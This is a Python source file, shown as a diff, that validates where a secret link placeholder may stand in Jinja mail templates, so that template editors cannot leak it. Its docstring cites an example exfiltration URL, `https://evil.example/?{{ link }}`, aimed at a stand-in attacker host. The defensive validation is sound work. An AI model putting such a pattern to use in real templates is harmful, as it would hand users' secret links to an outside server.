@@ -1,0 +1,182 @@
+"""Where `{{ link }}` may stand: as a whole `href` of an `a`, or as a word of its own (docs/domain/mail.md#mail-12).
+
+Otherwise whoever may edit a text could move the link's secret to another server: `https://evil.example/?{{ link }}`, an
+image whose address is still open, a form, a style sheet that compares it.
+"""
+
+import re
+from collections.abc import Sequence
+from typing import Final
+
+from jinja2 import nodes
+
+from customer_gql.core.errors import RuleError
+
+LINK: Final = "link"
+# Private-use characters stand for what is not text: the link, another placeholder, a condition with and without the link.
+_LINK: Final = "\ue000"
+_VALUE: Final = "\ue001"
+_CONDITION_WITH_LINK: Final = "\ue002"
+_CONDITION: Final = "\ue003"
+_MARKS: Final = re.compile(f"[{_LINK}{_CONDITION_WITH_LINK}]")
+_BLANK: Final = " \t\r\n"
+_NAME: Final = r"[A-Za-z][A-Za-z0-9-]*"
+_ATTRIBUTE: Final = re.compile(rf"""\s+({_NAME})(?:=(?:"([^"<>]*)"|'([^'<>]*)'))?""")
+_TAG: Final = re.compile(rf"""<(/?)({_NAME})((?:\s+{_NAME}(?:=(?:"[^"<>]*"|'[^'<>]*'))?)*)\s*/?>""")
+_ELEMENTS: Final = frozenset(
+    [
+        "a",
+        "abbr",
+        "b",
+        "blockquote",
+        "br",
+        "center",
+        "code",
+        "div",
+        "em",
+        "font",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "hr",
+        "i",
+        "img",
+        "li",
+        "ol",
+        "p",
+        "pre",
+        "small",
+        "span",
+        "strong",
+        "sub",
+        "sup",
+        "table",
+        "tbody",
+        "td",
+        "tfoot",
+        "th",
+        "thead",
+        "tr",
+        "u",
+        "ul",
+    ]
+)
+_ATTRIBUTES: Final = frozenset(
+    [
+        "align",
+        "alt",
+        "bgcolor",
+        "border",
+        "cellpadding",
+        "cellspacing",
+        "class",
+        "color",
+        "colspan",
+        "dir",
+        "face",
+        "height",
+        "href",
+        "lang",
+        "role",
+        "rowspan",
+        "size",
+        "src",
+        "style",
+        "title",
+        "valign",
+        "width",
+    ]
+)
+_ALONE: Final = (
+    "{{ link }} stands alone: as the whole href of an <a>, or as a word between blanks or tags, without filters."
+)
+
+
+def validate_link_placement(template: nodes.Template, *, is_html: bool) -> None:
+    """Raises `RuleError`. A text without the link may contain any HTML."""
+    if _names_link(template):
+        _validate_body(template.body, is_html=is_html)
+
+
+def _validate_body(body: Sequence[nodes.Node], *, is_html: bool) -> None:
+    """Each branch of a condition is judged on its own: it opens and closes no tag of its surroundings."""
+    text = "".join(_as_text(node) for node in body)
+    if is_html:
+        _validate_html(text)
+    else:
+        _validate_words(text)
+    for node in body:
+        if isinstance(node, nodes.If):
+            for branch in (node.body, node.else_, *(other.body for other in node.elif_)):
+                _validate_body(branch, is_html=is_html)
+
+
+def _as_text(node: nodes.Node) -> str:
+    if isinstance(node, nodes.Output):
+        return "".join(_expression_as_text(part) for part in node.nodes)
+    assert isinstance(node, nodes.If), node
+    if any(_is_compared(test) for test in (node.test, *(other.test for other in node.elif_))):
+        raise RuleError("{{ link }} cannot be compared.")
+    branches = [*node.body, *node.else_, *(inner for other in node.elif_ for inner in other.body)]
+    return _CONDITION_WITH_LINK if any(_names_link(inner) for inner in branches) else _CONDITION
+
+
+def _expression_as_text(part: nodes.Node) -> str:
+    if isinstance(part, nodes.TemplateData):
+        return part.data
+    if isinstance(part, nodes.Name) and part.name == LINK:
+        return _LINK
+    if _names_link(part):
+        raise RuleError(_ALONE)
+    return _VALUE
+
+
+def _names_link(node: nodes.Node) -> bool:
+    return (isinstance(node, nodes.Name) and node.name == LINK) or any(
+        name.name == LINK for name in node.find_all(nodes.Name)
+    )
+
+
+def _is_compared(test: nodes.Node) -> bool:
+    """A comparison would tell the secret character by character; whether there is a link may be asked."""
+    return _names_link(test) and not isinstance(test, nodes.Name)
+
+
+def _validate_words(text: str) -> None:
+    for found in _MARKS.finditer(text):
+        before, after = text[: found.start()][-1:], text[found.end() :][:1]
+        if (before and before not in _BLANK) or (after and after not in _BLANK):
+            raise RuleError(_ALONE)
+
+
+def _validate_html(text: str) -> None:
+    """Text and complete tags in turn, of the elements and attributes that mails need."""
+    at = 0
+    for tag in _TAG.finditer(text):
+        _validate_words_between_tags(text[at : tag.start()])
+        _validate_tag(*tag.groups())
+        at = tag.end()
+    _validate_words_between_tags(text[at:])
+
+
+def _validate_words_between_tags(text: str) -> None:
+    if "<" in text or ">" in text:
+        raise RuleError("The HTML of a text with {{ link }} consists of complete tags with quoted attributes.")
+    _validate_words(text)
+
+
+def _validate_tag(closes: str, element: str, attributes: str) -> None:
+    if element.lower() not in _ELEMENTS:
+        raise RuleError(f"The element <{element}> is not allowed in a text with {{{{ link }}}}.")
+    for name, double, single in _ATTRIBUTE.findall(attributes):
+        if name.lower() not in _ATTRIBUTES:
+            raise RuleError(f"The attribute {name} is not allowed in a text with {{{{ link }}}}.")
+        value = double or single
+        # The branches of a condition could close the quotation mark.
+        if _CONDITION in value or _CONDITION_WITH_LINK in value:
+            raise RuleError("No condition stands inside a tag of a text with {{ link }}.")
+        if _MARKS.search(value) and (closes, element.lower(), name.lower(), value) != ("", "a", "href", _LINK):
+            raise RuleError(_ALONE)
